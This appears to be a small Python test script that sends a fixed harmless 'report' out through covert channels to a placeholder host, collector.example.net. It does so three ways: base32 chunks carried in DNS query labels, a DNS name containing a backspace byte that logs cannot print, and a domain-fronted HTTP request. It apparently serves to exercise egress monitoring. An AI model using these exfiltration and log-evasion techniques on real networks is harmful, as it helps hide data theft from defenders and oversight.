"""Put data into names and behind names: many labels, a name the log cannot print, another host behind an honest one."""

import base64
import socket
import sys

RESOLVER = "10.200.0.1"
REPORT = b"report: 3 files, 1 host, nothing else to say but this, in pieces"


def raw(labels: list[bytes]) -> None:
    """Ask the configured resolver for an A record of any labels at all (RFC 1035 section 4)."""
    name = b"".join(bytes([len(label)]) + label for label in labels)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1", (RESOLVER, 53))
        sock.recv(512)


def labels() -> None:
    """Carry the report in 16 names of one domain; no other host is ever contacted."""
    for at in range(0, len(REPORT), 4):
        part = base64.b32encode(REPORT[at : at + 4]).decode().rstrip("=").lower()
        raw([part.encode(), b"collector", b"example", b"net"])


def fronted() -> None:
    """Connect to the documented host and ask it for another one's document."""
    with socket.create_connection(("api.example.com", 80), timeout=5) as sock:
        sock.sendall(b"GET /drop HTTP/1.1\r\nHost: collector.example.net\r\nConnection: close\r\n\r\n")
        sock.recv(256)


WAYS = {
    "labels": labels,
    "unprintable": lambda: raw([b"a\x08b", b"collector", b"example", b"net"]),
    "fronted": fronted,
}
WAYS[sys.argv[1]]()
